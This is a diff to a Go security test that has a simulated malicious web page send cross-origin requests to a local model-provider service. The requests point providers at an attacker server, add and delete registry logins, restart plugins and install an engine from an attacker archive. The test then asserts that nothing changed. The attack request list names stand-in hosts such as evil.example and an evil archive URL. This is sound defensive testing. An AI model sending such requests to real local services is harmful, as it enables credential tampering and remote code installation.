@@ -110,6 +110,8 @@ func browserAttack(ctx context.Context, t *testing.T, chromium, plugins, token s
 		{"POST", "/v1/providers", map[string]any{"plugin": "openai", "name": "fake", "base_url": evil.URL + "/v1", "api_key": "sk-evil-0123456789abcdef"}},
 		{"POST", "/v1/providers/fake/test", map[string]any{}},
 		{"DELETE", "/v1/providers/fake", nil},
+		{"PUT", "/v1/registries/evil.example", map[string]any{"username": "evil", "password": "evil-browser-password"}},
+		{"DELETE", "/v1/registries/127.0.0.1:5999", nil},
 		{"POST", "/v1/plugins/openai/restart", map[string]any{}},
 		{"POST", "/v1/plugins/ollama/restart", map[string]any{}},
 		{"POST", "/v1/engines/ollama/install", map[string]any{"url": evilArchive, "sha256": evilSHA}},
@@ -142,7 +144,11 @@ func browserAttack(ctx context.Context, t *testing.T, chromium, plugins, token s
 	site := newAttackSite(t, targets, routes)
 	_, sitePort, _ := net.SplitHostPort(strings.TrimPrefix(site.URL, "http://"))
 
-	// The state before the page runs.
+	// The state before the page runs: one saved registry login the page
+	// would like to remove.
+	if _, err := admin.SetRegistry(ctx, "127.0.0.1:5999", client.RegistryLogin{Username: "me", Password: "kept-registry-password"}); err != nil {
+		t.Fatal(err)
+	}
 	providersBefore := providerSet(t, h.URL, token)
 	pluginsBefore := pluginPIDs(t, ctx, admin)
 	upstreamBefore := len(upstream.Requests())
@@ -169,6 +175,9 @@ func browserAttack(ctx context.Context, t *testing.T, chromium, plugins, token s
 	// did, so a failure lists the holes.
 	if got := providerSet(t, h.URL, token); !slices.Equal(got, providersBefore) {
 		t.Errorf("the page changed the providers: before %v, after %v", providersBefore, got)
+	}
+	if regs, err := admin.Registries(ctx); err != nil || len(regs) != 1 || regs[0].Host != "127.0.0.1:5999" {
+		t.Errorf("the page changed the registry logins: %+v %v", regs, err)
 	}
 	if hits := evil.Hits(); len(hits) > 0 {
 		t.Errorf("the page made the host fetch from the attacker's server: %v", hits)
